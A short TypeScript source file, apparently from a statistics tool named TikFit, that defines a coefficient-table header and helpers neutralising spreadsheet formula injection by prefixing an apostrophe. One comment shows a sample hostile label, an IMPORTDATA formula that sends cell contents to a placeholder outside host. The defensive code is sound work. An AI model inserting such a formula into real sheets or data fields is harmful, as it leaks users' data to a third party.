/** The coefficient table's header, exactly, wherever TikFit writes the table (results sheet, `--out` CSV). */
export const COEFFICIENT_HEADER = ['Term', 'Estimate', 'Std. Error', 't', 'p-value', 'CI low', 'CI high', 'VIF'];

/**
 * Formula-injection defence: a user-derived string that Sheets would read as a formula (starting with =, +, - or
 * @) is written as text by prefixing an apostrophe, which Sheets hides. Numbers, booleans and dates pass through.
 * A category named `=IMPORTDATA("https://x.example/?"&A1)` so stays a label everywhere TikFit writes it.
 */
export function safeCell(value: unknown): unknown {
  if (typeof value !== 'string') return value;
  return /^[=+\-@]/.test(value) ? `'${value}` : value;
}

/** `safeCell` over a whole grid, returning a new grid. Cost: O(cells). */
export function safeGrid(grid: readonly (readonly unknown[])[]): unknown[][] {
  return grid.map((row) => row.map(safeCell));
}
